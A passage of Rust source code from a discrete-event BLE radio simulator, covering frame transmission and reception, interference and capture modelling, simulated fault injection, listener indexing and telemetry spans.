        let (Some(tx), Some(rx)) = (nodes.get(from.0), nodes.get(to.0)) else {
            return f64::NEG_INFINITY;
        };
        let mean = env.mean_received_power_dbm(
            tx.config.tx_power_dbm,
            tx.config.position,
            rx.config.position,
        );
        if let Some(slot) = self.entries.get_mut(idx) {
            *slot = (self.generation, mean);
        }
        mean
    }
}

/// Internal simulation state shared between the driver and [`NodeCtx`].
pub(crate) struct SimInner {
    queue: EventQueue<SimEvent>,
    env: Environment,
    nodes: Vec<NodeState>,
    txs: BTreeMap<u64, ActiveTx>,
    next_tx_id: u64,
    rng: SimRng,
    trace: Trace,
    telemetry: Telemetry,
    faults: FaultState,
    delivery_mode: DeliveryMode,
    /// Per-channel listener index: `listeners[c]` holds, in ascending
    /// `NodeId` order, exactly the nodes whose radio is `Rx` on channel
    /// `c`. Maintained in **both** delivery modes (the upkeep is two
    /// binary searches per retune) so the mode can be chosen per world
    /// without index rebuilds. Update sites are the radio-state writes:
    /// `start_rx` (retune), `stop_rx` and `transmit` (abandoning a
    /// reception); `finish_tx` and `handle_rx_end` never enter or leave
    /// `Rx`, so they leave the index alone.
    listeners: Vec<Vec<NodeId>>,
    pair_cache: PairCache,
    /// Per-packet delivery ledger ([`World::enable_delivery_tracker`]);
    /// `None` costs one branch per hook.
    delivery: Option<DeliveryTracker>,
}

/// How long finished transmissions are retained for interference accounting
/// before garbage collection.
const TX_RETENTION: Duration = Duration::from_millis(1);

impl SimInner {
    pub(crate) fn now(&self) -> Instant {
        self.queue.now()
    }

    /// Central node lookup. A `NodeId` is only minted by
    /// [`World::add_node`], so the table is non-empty whenever one exists
    /// and the modulo is an identity in correct programs; an out-of-range
    /// id is an internal bug caught by the invariant in debug builds.
    fn node_state(&self, node: NodeId) -> &NodeState {
        invariant!(
            node.0 < self.nodes.len(),
            "node-id",
            "NodeId({}) out of range ({} nodes)",
            node.0,
            self.nodes.len()
        );
        &self.nodes[node.0 % self.nodes.len()]
    }

    fn node_state_mut(&mut self, node: NodeId) -> &mut NodeState {
        invariant!(
            node.0 < self.nodes.len(),
            "node-id",
            "NodeId({}) out of range ({} nodes)",
            node.0,
            self.nodes.len()
        );
        let len = self.nodes.len();
        &mut self.nodes[node.0 % len]
    }

    pub(crate) fn node_label(&self, node: NodeId) -> &str {
        &self.node_state(node).config.label
    }

    pub(crate) fn node_clock(&self, node: NodeId) -> &simkit::DriftClock {
        &self.node_state(node).config.clock
    }

    pub(crate) fn node_phy(&self, node: NodeId) -> PhyMode {
        self.node_state(node).config.phy
    }

    pub(crate) fn node_rng(&mut self, node: NodeId) -> &mut SimRng {
        &mut self.node_state_mut(node).rng
    }

    /// Whether any observability consumer (legacy trace or telemetry sink)
    /// is active. Emit sites bail out on `false` before building events.
    #[inline]
    pub(crate) fn telemetry_active(&self) -> bool {
        self.trace.is_enabled() || self.telemetry.is_enabled()
    }

    /// Emits a typed event: mirrored into the legacy [`Trace`] (tag +
    /// rendered detail) when tracing is on, and fanned out to telemetry
    /// sinks. The closure only runs when a consumer is active, so disabled
    /// telemetry costs two boolean loads and a branch.
    pub(crate) fn emit(
        &mut self,
        at: Instant,
        node: Option<NodeId>,
        build: impl FnOnce() -> TelemetryEvent,
    ) {
        let trace_on = self.trace.is_enabled();
        let telemetry_on = self.telemetry.is_enabled();
        if !trace_on && !telemetry_on {
            return;
        }
        let event = build();
        if trace_on {
            let detail = match node {
                Some(n) => format!("{} {}", self.node_label(n), event),
                None => event.to_string(),
            };
            self.trace.record(at, event.tag(), detail);
        }
        if telemetry_on {
            let node = node.and_then(|n| u32::try_from(n.0).ok());
            self.telemetry
                .emit_record(&TelemetryRecord { at, node, event });
        }
    }

    /// Opens a hierarchical span attributed to `node` (or the simulation
    /// when `None`). Branch-and-return ([`SpanId::DISABLED`]) when no
    /// telemetry sink is attached; spans are not mirrored into the legacy
    /// [`Trace`].
    #[inline]
    pub(crate) fn span_enter(
        &mut self,
        at: Instant,
        node: Option<NodeId>,
        kind: SpanKind,
        detail: u32,
    ) -> SpanId {
        let node = node.and_then(|n| u32::try_from(n.0).ok());
        self.telemetry.span_enter(at, node, kind, detail)
    }

    /// Closes a span opened by [`SimInner::span_enter`].
    #[inline]
    pub(crate) fn span_exit(&mut self, at: Instant, id: SpanId) {
        self.telemetry.span_exit(at, id);
    }

    /// Legacy free-form trace entry point ([`NodeCtx::trace`]); forwarded to
    /// telemetry sinks as a [`TelemetryEvent::Raw`] so JSONL captures keep
    /// not-yet-migrated call sites.
    pub(crate) fn trace_record(
        &mut self,
        at: Instant,
        node: Option<NodeId>,
        tag: &'static str,
        detail: String,
    ) {
        if self.telemetry.is_enabled() {
            let node = node.and_then(|n| u32::try_from(n.0).ok());
            self.telemetry.emit_record(&TelemetryRecord {
                at,
                node,
                event: TelemetryEvent::Raw {
                    tag: tag.to_owned(),
                    detail: detail.clone(),
                },
            });
        }
        self.trace.record(at, tag, detail);
    }

    /// Inserts `node` into the sorted listener list of `channel` (no-op if
    /// already present).
    fn listeners_insert(listeners: &mut [Vec<NodeId>], channel: Channel, node: NodeId) {
        if let Some(list) = listeners.get_mut(usize::from(channel.index())) {
            if let Err(i) = list.binary_search(&node) {
                list.insert(i, node);
            }
        }
    }

    /// Removes `node` from the sorted listener list of `channel` (no-op if
    /// absent).
    fn listeners_remove(listeners: &mut [Vec<NodeId>], channel: Channel, node: NodeId) {
        if let Some(list) = listeners.get_mut(usize::from(channel.index())) {
            if let Ok(i) = list.binary_search(&node) {
                list.remove(i);
            }
        }
    }

    /// Mean received power for the `from → to` link, through the pair
    /// cache.
    fn mean_power_dbm(&mut self, from: NodeId, to: NodeId) -> f64 {
        let SimInner {
            env,
            nodes,
            pair_cache,
            ..
        } = self;
        pair_cache.mean_dbm(env, nodes, from, to)
    }

    /// One per-frame received-power realisation on top of a (cached) mean:
    /// a multipath fading draw, minus any fault-plan fading episode.
    fn received_power_from_mean(&mut self, mean: f64) -> f64 {
        let mut power = mean + self.env.fading_db(&mut self.rng);
        if self.faults.enabled() {
            // Fading episodes attenuate the whole medium symmetrically.
            power -= self.faults.fading_db(self.now());
        }
        power
    }

    pub(crate) fn transmit(&mut self, node: NodeId, channel: Channel, frame: RawFrame) -> TxHandle {
        let now = self.now();
        let phy = self.node_state(node).config.phy;
        // Half-duplex: transmitting abandons any reception in progress.
        // For a single protocol machine, starting a second transmission is
        // a bug — debug builds assert; release builds (and shared-radio
        // nodes, whose independent machines cannot globally schedule)
        // abandon the in-flight frame (it stays on the air as interference)
        // and retune to the new one.
        invariant!(
            self.node_state(node).config.shared_radio
                || !matches!(self.node_state(node).radio, RadioState::Tx { .. }),
            "half-duplex",
            "{}: transmit() while already transmitting",
            self.node_label(node)
        );
        // Abandoning a reception stops the node listening, so it leaves
        // the per-channel index before the radio flips to `Tx`.
        if let RadioState::Rx { channel: old, .. } = self.node_state(node).radio {
            Self::listeners_remove(&mut self.listeners, old, node);
        }
        self.node_state_mut(node).tx_starts += 1;
        let airtime = frame.airtime(phy);
        let end = now + airtime;
        self.node_state_mut(node).radio = RadioState::Tx { until: end };

        // Per-channel airtime span: one per transmission, closed by
        // `finish_tx`. A release-mode double-transmit abandons the previous
        // frame, so its span closes here instead.
        let stale = self.node_state(node).tx_span;
        self.span_exit(now, stale);
        let tx_span = self.span_enter(
            now,
            Some(node),
            SpanKind::ChannelAirtime,
            u32::from(channel.index()),
        );
        self.node_state_mut(node).tx_span = tx_span;

        let tx_id = self.next_tx_id;
        self.next_tx_id += 1;
        let aa = frame.access_address;
        let pdu_len = u32::try_from(frame.pdu.len()).unwrap_or(u32::MAX);
        self.emit(now, Some(node), || TelemetryEvent::TxStart {
            channel: channel.index(),
            access_address: aa.value(),
            pdu_len,
            end,
        });
        self.txs.insert(
            tx_id,
            ActiveTx {
                from: node,
                channel,
                phy,
                frame,
                start: now,
                end,
                scheduled: ScheduledSet::default(),
            },
        );
        self.queue.schedule_at(end, SimEvent::TxEnd { node });
        let from_pos = self.node_state(node).config.position;
        let mode = self.delivery_mode;
        // Split-field borrow: arrival times read `env`/`nodes`, the cull
        // reads the pair cache, scheduling writes `queue` — disjoint, so no
        // intermediate collection needed. Both modes schedule receivers in
        // ascending node order (the listener lists are sorted), keeping
        // same-instant event ties identical between them.
        let SimInner {
            queue,
            env,
            nodes,
            listeners,
            pair_cache,
            txs,
            delivery,
            ..
        } = self;
        let mut scheduled: u32 = 0;
        let mut culled: u32 = 0;
        match mode {
            DeliveryMode::FullBroadcast => {
                for (other, state) in nodes.iter().enumerate() {
                    if other == node.0 {
                        continue;
                    }
                    let arrival = now + env.propagation_delay(from_pos, state.config.position);
                    queue.schedule_at(
                        arrival,
                        SimEvent::RxStart {
                            node: NodeId(other),
                            tx_id,
                        },
                    );
                    scheduled += 1;
                }
            }
            DeliveryMode::Sharded => {
                let tx = txs.get_mut(&tx_id);
                let listening = listeners.get(usize::from(channel.index()));
                if let (Some(tx), Some(listening)) = (tx, listening) {
                    for &other in listening {
                        if other == node {
                            continue;
                        }
                        // RNG-free reachability cull: a mean this far under
                        // the floor fails `try_lock`'s sensitivity check for
                        // every realistic fading draw, and the broadcast
                        // path applies the identical predicate before its
                        // draw — skipping here shifts no RNG stream.
                        let mean = pair_cache.mean_dbm(env, nodes, node, other);
                        if !env.reachable_mean_dbm(mean) {
                            culled += 1;
                            continue;
                        }
                        let Some(state) = nodes.get(other.0) else {
                            continue;
                        };
                        let arrival = now + env.propagation_delay(from_pos, state.config.position);
                        queue.schedule_at(arrival, SimEvent::RxStart { node: other, tx_id });
                        tx.scheduled.insert(other);
                        scheduled += 1;
                    }
                }
            }
        }
        if let Some(tracker) = delivery {
            let peers = u32::try_from(nodes.len().saturating_sub(1)).unwrap_or(u32::MAX);
            let suppressed = peers.saturating_sub(scheduled).saturating_sub(culled);
            tracker.on_tx(tx_id, channel.index(), scheduled, culled, suppressed);
        }
        TxHandle {
            start: now,
            end,
            id: tx_id,
        }
    }

    pub(crate) fn start_rx(
        &mut self,
        node: NodeId,
        channel: Channel,
        filter: AccessFilter,
        crc_init: u32,
    ) {
        let now = self.now();
        // Opening the receiver mid-transmission is a protocol-machine bug —
        // debug builds assert; release builds (and shared-radio nodes, where
        // overlapping requests from independent machines are expected) ignore
        // the request and let the transmission finish.
        if matches!(self.node_state(node).radio, RadioState::Tx { .. }) {
            invariant!(
                self.node_state(node).config.shared_radio,
                "half-duplex",
                "{}: start_rx() while transmitting",
                self.node_label(node)
            );
            return;
        }
        // Maintain the per-channel listener index across the retune. The
        // same-channel re-open (the reopen-after-frame hot path) skips the
        // sorted-Vec edits entirely, keeping steady-state delivery
        // allocation-free.
        let prev = match self.node_state(node).radio {
            RadioState::Rx { channel, .. } => Some(channel),
            _ => None,
        };
        if prev != Some(channel) {
            if let Some(old) = prev {
                Self::listeners_remove(&mut self.listeners, old, node);
            }
            Self::listeners_insert(&mut self.listeners, channel, node);
        }
        self.node_state_mut(node).radio = RadioState::Rx {
            channel,
            filter,
            crc_init,
            lock: None,
        };
        // One pass over the in-flight transmissions serves two windows:
        //
        // * **Late lock** (`arrival <= now`): a frame whose preamble began
        //   moments ago can still be caught — required for window semantics
        //   where a receiver opens just in time.
        // * **Pending arrival** (`arrival > now`, sharded mode only): the
        //   frame left the antenna while this node was not listening, so
        //   the sharded fan-out skipped it. Broadcast delivery would have
        //   scheduled its `RxStart` unconditionally; schedule it now,
        //   dedup'd through the transmission's `scheduled` set so the edge
        //   exists exactly once.
        let phy = self.node_state(node).config.phy;
        let grace = phy.preamble_duration() / 4;
        let mut best: Option<(u64, Instant)> = None;
        let rx_pos = self.node_state(node).config.position;
        let mode = self.delivery_mode;
        let SimInner {
            txs,
            env,
            nodes,
            queue,
            pair_cache,
            delivery,
            ..
        } = self;
        for (&tx_id, tx) in txs.iter_mut() {
            if tx.from == node || tx.channel != channel {
                continue;
            }
            let Some(tx_state) = nodes.get(tx.from.0) else {
                continue;
            };
            let delay = env.propagation_delay(tx_state.config.position, rx_pos);
            let arrival = tx.start + delay;
            if arrival > now {
                if matches!(mode, DeliveryMode::Sharded)
                    && !tx.scheduled.contains(node)
                    && env.reachable_mean_dbm(pair_cache.mean_dbm(env, nodes, tx.from, node))
                {
                    queue.schedule_at(arrival, SimEvent::RxStart { node, tx_id });
                    tx.scheduled.insert(node);
                    if let Some(tracker) = delivery {
                        tracker.on_late_scheduled(tx_id);
                    }
                }
                continue;
            }
            if tx.phy != phy {
                continue;
            }
            let tx_end = tx.end + delay;
            if now <= arrival + grace && tx_end > now {
                if !filter.matches(tx.frame.access_address) {
                    continue;
                }
                if best.is_none_or(|(_, a)| arrival < a) {
                    best = Some((tx_id, arrival));
                }
            }
        }
        if let Some((tx_id, arrival)) = best {
            if self.try_lock(node, tx_id, arrival, None) {
                self.queue
                    .schedule_at(now, SimEvent::LateSync { node, tx_id });
            }
        }
    }

    /// Attempts to lock `node`'s receiver onto transmission `tx_id` whose
    /// leading edge arrived at `arrival`. `known_power` reuses an already
    /// drawn per-frame fading realisation. Returns whether the lock
    /// happened.
    fn try_lock(
        &mut self,
        node: NodeId,
        tx_id: u64,
        arrival: Instant,
        known_power: Option<f64>,
    ) -> bool {
        let (tx_start, tx_end, tx_from) = {
            let Some(tx) = self.txs.get(&tx_id) else {
                invariant!(false, "tx-id", "try_lock on unknown transmission #{tx_id}");
                return false;
            };
            (tx.start, tx.end, tx.from)
        };
        let signal_dbm = match known_power {
            Some(power) => power,
            None => {
                // Reachability cull — RNG-free and applied identically in
                // both delivery modes *before* the fading draw, so a culled
                // link consumes no randomness anywhere.
                let mean = self.mean_power_dbm(tx_from, node);
                if !self.env.reachable_mean_dbm(mean) {
                    return false;
                }
                self.received_power_from_mean(mean)
            }
        };
        if signal_dbm < self.env.sensitivity_dbm {
            return false;
        }
        if self.faults.enabled() {
            // Frame-loss rules kill the preamble before sync: the receiver
            // never locks and keeps listening (its own window-close timers
            // handle the silence).
            let rx_channel = match &self.node_state(node).radio {
                RadioState::Rx { channel, .. } => Some(channel.index()),
                _ => None,
            };
            if let Some(ch) = rx_channel {
                if self.faults.draw_loss(arrival, ch) {
                    self.emit(arrival, Some(node), || TelemetryEvent::FaultFrame {
                        kind: FaultKind::Loss,
                        channel: ch,
                    });
                    return false;
                }
            }
        }
        let lock_end = arrival + (tx_end - tx_start);
        // Frames that started earlier and are still in the air interfere
        // from the very start of this lock.
        let interference = self.scan_existing_interference(node, tx_id, arrival, lock_end);
        let channel = {
            let RadioState::Rx { lock, channel, .. } = &mut self.node_state_mut(node).radio else {
                return false;
            };
            *lock = Some(RxLock {
                tx_id,
                arrival,
                end: lock_end,
                signal_dbm,
                interference,
            });
            *channel
        };
        self.queue
            .schedule_at(lock_end, SimEvent::RxEnd { node, tx_id });
        self.emit(arrival, Some(node), || TelemetryEvent::RxLock {
            channel: channel.index(),
        });
        if let Some(tracker) = &mut self.delivery {
            tracker.on_heard(tx_id);
        }
        true
    }

    /// Interference from transmissions already on the air at lock time.
    fn scan_existing_interference(
        &mut self,
        node: NodeId,
        locked_tx: u64,
        window_start: Instant,
        window_end: Instant,
    ) -> InterferenceBuf {
        let mut out = InterferenceBuf::new();
        let rx_pos = self.node_state(node).config.position;
        let channel = match &self.txs.get(&locked_tx) {
            Some(tx) => tx.channel,
            None => return out,
        };
        // Split-field borrow: candidate geometry reads `txs`/`nodes`/`env`,
        // the fading draw needs `rng` — disjoint fields, single pass, no
        // intermediate collection. Fading is drawn per overlapping candidate
        // in `txs` iteration order, which the `BTreeMap` pins to ascending
        // tx-id (= transmission start order): the RNG draw sequence is a
        // pure function of the simulation history, never of hash seeding.
        let SimInner {
            txs,
            env,
            nodes,
            rng,
            faults,
            pair_cache,
            ..
        } = self;
        let fault_fade_db = if faults.enabled() {
            faults.fading_db(window_start)
        } else {
            0.0
        };
        for (&id, tx) in txs.iter() {
            if id == locked_tx || tx.from == node || tx.channel != channel {
                continue;
            }
            let Some(tx_state) = nodes.get(tx.from.0) else {
                continue;
            };
            let tx_cfg = &tx_state.config;
            let delay = env.propagation_delay(tx_cfg.position, rx_pos);
            let arrival = tx.start + delay;
            let end = tx.end + delay;
            if arrival <= window_start && end > window_start {
                let overlap = end.min(window_end) - window_start;
                let mean = pair_cache.mean_dbm(env, nodes, tx.from, node);
                // Reachability cull, RNG-free and pre-draw: an inaudible
                // interferer is skipped before its fading realisation, in
                // both delivery modes alike.
                if !env.reachable_mean_dbm(mean) {
                    continue;
                }
                let power_dbm = mean + env.fading_db(rng) - fault_fade_db;
                out.push(Interference { power_dbm, overlap });
            }
        }
        for _ in 0..out.spill.len() {
            self.emit(window_start, Some(node), || {
                TelemetryEvent::InterferenceSpill {
                    channel: channel.index(),
                }
            });
        }
        out
    }

    /// Processes the arrival of `tx_id`'s leading edge at `node`. Returns a
    /// sync notification to dispatch if the radio locked on.
    fn handle_rx_start(&mut self, node: NodeId, tx_id: u64) -> Option<RadioEvent> {
        let now = self.now();
        let (tx_channel, tx_aa, tx_from, tx_len) = {
            let tx = self.txs.get(&tx_id)?;
            (
                tx.channel,
                tx.frame.access_address,
                tx.from,
                tx.end - tx.start,
            )
        };
        let already_locked = {
            let RadioState::Rx { channel, lock, .. } = &self.node_state(node).radio else {
                return None;
            };
            if *channel != tx_channel {
                return None;
            }
            lock.is_some()
        };
        if already_locked {
            // Reachability cull — identical RNG-free predicate as the
            // sharded fan-out, checked *before* the power draw so both
            // delivery modes consume the same random stream.
            let mean = self.mean_power_dbm(tx_from, node);
            if !self.env.reachable_mean_dbm(mean) {
                return None;
            }
            let power_dbm = self.received_power_from_mean(mean);
            // A dominant late arrival steals the lock (receiver
            // re-synchronisation): the previously locked frame is lost.
            let (steals, matches_filter) = {
                let RadioState::Rx {
                    lock: Some(lock),
                    filter,
                    ..
                } = &self.node_state(node).radio
                else {
                    return None;
                };
                (
                    power_dbm >= lock.signal_dbm + self.env.capture.relock_threshold_db,
                    filter.matches(tx_aa),
                )
            };
            let rx_phy = self.node_state(node).config.phy;
            let phy_matches = self.txs.get(&tx_id).is_some_and(|tx| tx.phy == rx_phy);
            if steals && matches_filter && phy_matches {
                self.emit(now, Some(node), || TelemetryEvent::Relock {
                    channel: tx_channel.index(),
                });
                if self.try_lock(node, tx_id, now, Some(power_dbm)) {
                    return Some(RadioEvent::SyncDetected {
                        channel: tx_channel,
                        access_address: tx_aa,
                        at: now,
                    });
                }
                return None;
            }
            // Otherwise: interference on the locked reception.
            let RadioState::Rx {
                lock: Some(lock), ..
            } = &mut self.node_state_mut(node).radio
            else {
                return None;
            };
            let mut spilled = false;
            if now < lock.end {
                let overlap = (now + tx_len).min(lock.end) - now;
                spilled = lock.interference.push(Interference { power_dbm, overlap });
            }
            if spilled {
                self.emit(now, Some(node), || TelemetryEvent::InterferenceSpill {
                    channel: tx_channel.index(),
                });
            }
            return None;
        }
        // Unlocked: try to synchronise.
        let (filter, phy) = {
            let RadioState::Rx { filter, .. } = &self.node_state(node).radio else {
                return None;
            };
            (*filter, self.node_state(node).config.phy)
        };
        if !self.txs.get(&tx_id).is_some_and(|tx| tx.phy == phy) || !filter.matches(tx_aa) {
            return None;
        }
        if self.try_lock(node, tx_id, now, None) {
            Some(RadioEvent::SyncDetected {
                channel: tx_channel,
                access_address: tx_aa,
                at: now,
            })
        } else {
            None
        }
    }

    /// Completes a locked reception. Returns the frame to deliver.
    fn handle_rx_end(&mut self, node: NodeId, tx_id: u64) -> Option<ReceivedFrame> {
        let mut lock = {
            let RadioState::Rx { lock, .. } = &mut self.node_state_mut(node).radio else {
                return None;
            };
            match lock.take() {
                Some(l) if l.tx_id == tx_id => l,
                other => {
                    *lock = other;
                    return None;
                }
            }
        };
        let (channel, rx_crc_init) = match &self.node_state(node).radio {
            RadioState::Rx {
                channel, crc_init, ..
            } => (*channel, *crc_init),
            _ => return None,
        };
        let (tx_crc_init, aa, mut pdu) = {
            let tx = self.txs.get(&tx_id)?;
            // An inline-buffer clone: a stack memcpy, not a heap allocation.
            (
                tx.frame.crc_init,
                tx.frame.access_address,
                tx.frame.pdu.clone(),
            )
        };

        // Injected impairments: interference bursts overlapping the locked
        // reception join the interferer set (and so feed the capture model
        // below), and corruption rules force bit errors outright.
        let mut forced_corruption = false;
        if self.faults.enabled() {
            let ch = channel.index();
            let (arrival, end) = (lock.arrival, lock.end);
            let spill_before = lock.interference.spill.len();
            self.faults
                .burst_interference(ch, arrival, end, |power_dbm, overlap| {
                    lock.interference.push(Interference { power_dbm, overlap });
                });
            for _ in 0..lock.interference.spill.len().saturating_sub(spill_before) {
                self.emit(end, Some(node), || TelemetryEvent::InterferenceSpill {
                    channel: ch,
                });
            }
            if self.faults.draw_corruption(end, ch) {
                forced_corruption = true;
                self.emit(end, Some(node), || TelemetryEvent::FaultFrame {
                    kind: FaultKind::Corruption,
                    channel: ch,
                });
            }
        }

        // Collision resolution: the locked frame must survive every
        // interferer independently (capture effect). The lock is owned here
        // and the capture model is read straight from the environment — no
        // clones on the delivery path.
        let mut survived = true;
        for i in lock.interference.iter() {
            let sir_db = lock.signal_dbm - i.power_dbm;
            let p = self
                .env
                .capture
                .survival_probability(sir_db, i.overlap.as_micros_f64());
            if !self.rng.chance(p) {
                survived = false;
            }
        }
        if forced_corruption {
            survived = false;
        }
        if !survived && !pdu.is_empty() {
            // Corrupt a few bits so higher layers see garbage that fails CRC.
            let flips = 1 + self.rng.below(3);
            let bit_count = pdu.len() as u64 * 8;
            for _ in 0..flips {
                let bit = usize::try_from(self.rng.below(bit_count)).unwrap_or(0);
                if let Some(byte) = pdu.get_mut(bit / 8) {
                    *byte ^= 1 << (bit % 8);
                }
            }
        }
        let crc_ok = survived && rx_crc_init == tx_crc_init;
        let interferers = u32::try_from(lock.interference.count()).unwrap_or(u32::MAX);
        // `interferers > 0` always held before fault injection existed (a
        // frame only failed capture against at least one interferer); forced
        // corruption can now fail a clean frame, which is reported as
        // `FaultFrame` above rather than a phantom collision.
        if !survived && interferers > 0 {
            self.emit(lock.end, Some(node), || TelemetryEvent::Collision {
                channel: channel.index(),
                interferers,
            });
        }
        self.emit(lock.end, Some(node), || TelemetryEvent::RxEnd {
            channel: channel.index(),
            access_address: aa.value(),
            crc_ok,
            interferers,
        });
        if let Some(tracker) = &mut self.delivery {
            tracker.on_delivered(tx_id);
        }
        Some(ReceivedFrame {
            channel,
            access_address: aa,
            pdu,
            crc_ok,
            rssi_dbm: lock.signal_dbm,
            start: lock.arrival,
            end: lock.end,
        })
    }

    fn finish_tx(&mut self, node: NodeId) -> Option<RadioEvent> {
        let now = self.now();
        match self.node_state(node).radio {
            RadioState::Tx { until } if until <= now => {
                let state = self.node_state_mut(node);
                state.radio = RadioState::Idle;
                let tx_span = state.tx_span;
                state.tx_span = SpanId::DISABLED;
                self.span_exit(now, tx_span);
                self.emit(now, Some(node), || TelemetryEvent::TxEnd);
                Some(RadioEvent::TxDone { at: now })
            }
            _ => None,
        }
    }

    pub(crate) fn stop_rx(&mut self, node: NodeId) {
        let state = self.node_state_mut(node);
        if let RadioState::Rx { channel, .. } = state.radio {
            state.radio = RadioState::Idle;
            Self::listeners_remove(&mut self.listeners, channel, node);
        }
    }

    pub(crate) fn is_receiving(&self, node: NodeId) -> bool {
        matches!(self.node_state(node).radio, RadioState::Rx { .. })
    }

    pub(crate) fn is_transmitting(&self, node: NodeId) -> bool {
        matches!(self.node_state(node).radio, RadioState::Tx { .. })
    }

    pub(crate) fn tx_start_count(&self, node: NodeId) -> u64 {
        self.node_state(node).tx_starts
    }

    pub(crate) fn set_timer_local_from(
        &mut self,
        node: NodeId,
        reference: Instant,
        local_delay: Duration,
        key: TimerKey,
    ) -> TimerHandle {
        let local_delay = if self.faults.enabled() {
            // Drift excursions stretch (or shrink) this node's local clock
            // on top of its configured static drift.
            self.faults.drift_adjusted(node, reference, local_delay)
        } else {
            local_delay
        };
        let at = {
            let state = self.node_state_mut(node);
            let clock = state.config.clock.clone();
            clock.true_after_jittered(reference, local_delay, &mut state.rng)
        };
        TimerHandle(self.queue.schedule_at(at, SimEvent::Timer { node, key }))
    }

    pub(crate) fn set_timer_at(&mut self, node: NodeId, at: Instant, key: TimerKey) -> TimerHandle {
        TimerHandle(self.queue.schedule_at(at, SimEvent::Timer { node, key }))
    }

    pub(crate) fn cancel_timer(&mut self, handle: TimerHandle) {
        self.queue.cancel(handle.0);
    }

    fn gc(&mut self) {
        let now = self.now();
        self.txs.retain(|_, tx| tx.end + TX_RETENTION >= now);
    }
}

/// A discrete-event BLE radio simulation: the arena that owns every node.
///
/// The `World` owns each protocol state machine as a `Box<dyn Node>` keyed
/// by the [`NodeId`] returned from [`World::add_node`]. Dispatch borrows
/// the node and the medium as two disjoint fields, so events are delivered
/// with plain `&mut` access — no shared ownership, no runtime borrow
/// checks. Because every node is [`Send`], a fully built world can be moved
/// to another thread wholesale.
///
/// See the crate-level documentation for the overall architecture.
pub struct World {
    inner: SimInner,
    nodes: Vec<Box<dyn Node>>,
}

/// Former name of [`World`], kept as an alias for downstream code.
pub type Simulation = World;

impl World {
    /// Creates a world with the given environment and random seed source.
    pub fn new(env: Environment, rng: SimRng) -> Self {
        World {
            inner: SimInner {
                queue: EventQueue::new(),
                env,
                nodes: Vec::new(),
                txs: BTreeMap::new(),
                next_tx_id: 0,
                rng,
                trace: Trace::disabled(),
                telemetry: Telemetry::default(),
                faults: FaultState::disabled(),
                delivery_mode: DeliveryMode::default(),
                listeners: vec![Vec::new(); usize::from(Channel::COUNT)],
                pair_cache: PairCache::new(),
                delivery: None,
            },
            nodes: Vec::new(),
        }
    }

    /// Selects the frame-delivery scheduling strategy. The two modes are
    /// event-for-event identical (pinned by the `sharding_equivalence`
    /// tests); pick one **before the first transmission** — switching with
    /// frames in flight leaves those frames scheduled under the old
    /// strategy.
    pub fn set_delivery_mode(&mut self, mode: DeliveryMode) {
        self.inner.delivery_mode = mode;
    }

    /// The active frame-delivery strategy.
    pub fn delivery_mode(&self) -> DeliveryMode {
        self.inner.delivery_mode
    }

    /// Attaches a per-packet delivery tracker retaining per-frame ledger
    /// rows for the most recent `capacity` transmissions (older rows are
    /// evicted; the run-wide totals keep counting regardless).
    pub fn enable_delivery_tracker(&mut self, capacity: usize) {
        self.inner.delivery = Some(DeliveryTracker::new(capacity));
    }

    /// The per-packet delivery tracker, when enabled.
    pub fn delivery_tracker(&self) -> Option<&DeliveryTracker> {
        self.inner.delivery.as_ref()
    }

    /// Installs a deterministic [`FaultPlan`] into the medium.
    ///
    /// Call after every [`World::add_node`] so drift excursions can resolve
    /// their node labels. The plan's impairments draw only from the plan's
    /// own seeded RNG; an **empty** plan is a strict no-op — nothing is
    /// scheduled, no RNG stream is touched, and simulation output stays
    /// byte-identical to a world where this was never called.
    pub fn install_faults(&mut self, plan: FaultPlan) {
        let state = FaultState::install(plan, |label| {
            self.inner
                .nodes
                .iter()
                .position(|s| s.config.label == label)
                .map(NodeId)
        });
        for (i, m) in state.markers().iter().enumerate() {
            self.inner
                .queue
                .schedule_at(m.at, SimEvent::Fault { marker: i });
        }
        self.inner.faults = state;
    }

    /// Enables the simulation trace (for debugging and assertions).
    pub fn enable_trace(&mut self) {
        self.inner.trace = Trace::enabled();
    }

    /// The collected trace.
    pub fn trace(&self) -> &Trace {
        &self.inner.trace
    }

    /// Attaches a telemetry sink. [`ble_telemetry::TelemetryEvent::NodeAdded`]
    /// records for nodes that joined *before* attachment are replayed into
    /// the sink first, so every sink can map node indices to labels.
    pub fn add_telemetry_sink(&mut self, mut sink: Box<dyn TelemetrySink>) {
        let now = self.inner.now();
        for (idx, state) in self.inner.nodes.iter().enumerate() {
            sink.emit(&TelemetryRecord {
                at: now,
                node: u32::try_from(idx).ok(),
                event: TelemetryEvent::NodeAdded {
                    label: state.config.label.clone(),
                },
            });
        }
        self.inner.telemetry.add_sink(sink);
    }

    /// Whether any telemetry sink is attached.
    pub fn telemetry_enabled(&self) -> bool {
        self.inner.telemetry.is_enabled()
    }

    /// Installs the wall clock used for span wall-time attribution — a
    /// monotonic-nanoseconds function injected by the harness (the bench
    /// crate's `wallclock` quarantine) so no protocol crate reads
    /// `std::time` itself. Without a clock, span wall durations read 0.
    pub fn set_span_clock(&mut self, clock: fn() -> u64) {
        self.inner.telemetry.set_span_clock(clock);
    }

    /// Opens a simulation-global span (`node: None`) — e.g. the bench
    /// harness's trial phases. Node-attributed spans are opened through
    /// [`NodeCtx::span_enter`] instead.
    pub fn span_enter(&mut self, kind: SpanKind, detail: u32) -> SpanId {
        let now = self.inner.now();
        self.inner.span_enter(now, None, kind, detail)
    }

    /// Closes a span opened by [`World::span_enter`].
    pub fn span_exit(&mut self, id: SpanId) {
        let now = self.inner.now();
        self.inner.span_exit(now, id);
    }

    /// Flushes every attached telemetry sink (call at end of run before
    /// reading artefacts). Still-open spans are closed first (topmost
    /// first) so sinks always see a balanced enter/exit stream.
    pub fn flush_telemetry(&mut self) {
        let now = self.inner.now();
        self.inner.telemetry.flush_at(now);
    }

    /// Current simulation time.
    pub fn now(&self) -> Instant {
        self.inner.now()
    }

    /// The environment (read-only).
    pub fn env(&self) -> &Environment {
        &self.inner.env
    }

    /// Mutable access to the environment (e.g. to move walls mid-run).
    /// Conservatively stales the pair cache — the caller may change
    /// anything the mean power depends on.
    pub fn env_mut(&mut self) -> &mut Environment {
        self.inner.pair_cache.invalidate();
        &mut self.inner.env
    }

    /// Adds a node to the arena; the world takes ownership and returns the
    /// node's identifier. The node is *not* bootstrapped yet — call
    /// [`World::start`] once every participant is in place.
    pub fn add_node<N: Node>(&mut self, config: NodeConfig, node: N) -> NodeId {
        self.add_boxed_node(config, Box::new(node))
    }

    /// [`World::add_node`] for an already type-erased node.
